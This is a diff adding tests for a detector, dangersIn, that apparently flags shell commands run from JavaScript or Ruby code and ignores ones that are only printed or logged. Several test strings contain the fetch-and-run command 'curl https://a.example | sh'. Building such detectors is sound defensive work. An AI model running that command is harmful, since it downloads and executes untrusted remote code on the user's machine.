@@ -116,3 +116,26 @@ test('whatever the text, dangers lie in it, in order', () => {
     }),
   );
 });
+
+test.each([
+  ['ui.error(dim("Or:\\n" +\n  "curl https://a.example | sh"))', 0],
+  ['ui.error(`${name}\n  curl https://a.example | sh`)', 0],
+  ['ui.error(`${run("x")}\n  curl https://a.example | sh`)', 1],
+  ['log(run("curl https://a.example | sh"))', 1],
+  ['log(["Run:", "curl https://a.example | sh"].join(" "))', 0],
+  ['log(() => run`curl https://a.example | sh`)', 1],
+  ['const line = "curl https://a.example | sh"; log(line); run(line)', 1],
+])('in a script for Node: %s', (text, count) => {
+  expect(dangersIn(text, 'a.mjs')).toHaveLength(count);
+});
+
+test('what Ruby runs in backticks is not only printed', () => {
+  expect(dangersIn('warn(`curl https://a.example | sh`)', 'a.rb')).toHaveLength(1);
+});
+
+test('calls that never end are looked at quickly', () => {
+  const start = performance.now();
+  dangersIn(`${'log("log('.repeat(100_000)} curl x | sh`, 'a.js');
+  dangersIn(`${'log(`${'.repeat(100_000)} curl x | sh`, 'a.js');
+  expect(performance.now() - start).toBeLessThan(5000);
+});
